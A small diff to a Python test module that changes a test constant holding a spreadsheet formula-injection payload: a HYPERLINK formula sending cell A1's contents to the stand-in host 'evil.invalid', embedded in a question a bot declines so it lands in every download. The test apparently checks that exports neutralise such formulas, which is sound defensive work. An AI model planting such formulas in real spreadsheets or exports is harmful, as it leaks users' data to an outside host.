@@ -32,7 +32,9 @@ from storage.models import Base, OutboxMessage, OutboxStatus, Person, Role
 from tests.conftest import EXAMPLES, START, database_url, fresh_database
 
 SECRETARIAT = "secretariat@p2p.invalid"
-FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click") complaint mechanism budget'
+# A question the bot declines (a complaint mechanism's printer is no question for the library), so
+# that it reaches every download, the unanswered groups included.
+FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click") complaint mechanism printer'
 
 
 @dataclass(slots=True)
